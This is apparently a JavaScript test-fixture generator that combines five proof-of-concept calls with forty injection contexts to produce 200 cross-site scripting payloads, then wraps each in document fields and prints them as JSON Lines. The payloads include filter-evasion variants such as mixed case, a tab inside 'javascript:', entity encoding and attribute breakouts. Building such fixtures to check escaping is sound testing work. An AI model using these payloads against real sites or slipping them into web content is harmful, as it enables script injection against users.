/* SPDX-License-Identifier: GPL-2.0-or-later */
/*
 * hostile.mjs - 200 strings that run as script where a page forgets to escape
 *
 *	node hostile.mjs    prints them as documents, JSON Lines: each string is
 *	                    id, title, text, source, author and url of one
 */
import { argv } from 'node:process';
import { fileURLToPath } from 'node:url';

/* What would be run, in the ways it may be written. */
const calls = ['alert(1)', 'window.hacked=1', 'alert`1`', '&#97;lert(1)', 'top[`al`+`ert`](1)'];

/* Where it would be run from; @ is the call. */
const places = [
	'<script>@</script>', '<ScRiPt>@</sCrIpT>', '<script src=data:text/javascript,@></script>', '</title><script>@</script>',
	'</textarea><script>@</script>', '</style><script>@</script>', '--><script>@</script>', ']]><script>@</script>',
	'<img src=x onerror=@>', '<img src=x onerror="@">', '"><img src=x onerror=@>', "'><img src=x onerror=@>",
	'<svg onload=@>', '<svg><script>@</script></svg>', '<svg><animate onbegin=@ attributeName=x dur=1s>',
	'<body onload=@>', '<iframe srcdoc="<script>@</script>">', '<iframe src="javascript:@">', '<a href="javascript:@">x</a>',
	'<object data="javascript:@">', '<embed src="javascript:@">', '<form action="javascript:@"><button>x</button></form>',
	'<input autofocus onfocus=@>', '<details open ontoggle=@>', '<video><source onerror=@></video>', '<marquee onstart=@>x',
	'<math><mtext></mtext><mglyph><style><img src=x onerror=@></style>', '<link rel=stylesheet href="javascript:@">',
	'<meta http-equiv=refresh content="0;url=javascript:@">', '<base href="javascript:@//">', '" onmouseover="@" x="',
	"' onfocus='@' autofocus x='", '" autofocus onfocus=@ x="', 'javascript:@', 'JaVaScRiPt:@', ' javascript:@',
	'java\tscript:@', 'data:text/html,<script>@</script>', 'vbscript:@', '<b onclick=@>x</b>'
];

export const hostile = places.flatMap(place => calls.map(call => place.replaceAll('@', call)));

/* Each has a word of its own, by which it is found again. */
export const word = n => 'hostile' + String(n).padStart(3, '0');

export const documents = hostile.map((text, n) => ({
	id: `${n} ${text}`,
	title: `${word(n)} ${text}`,
	text: `${text}\n\nhostile text ${word(n)} ${text} end`,
	source: text,
	author: text,
	url: text,
	date: `20${10 + n % 20}-0${1 + n % 9}-11`
}));

if (argv[1] === fileURLToPath(import.meta.url))
	for (const one of documents)
		console.log(JSON.stringify(one));
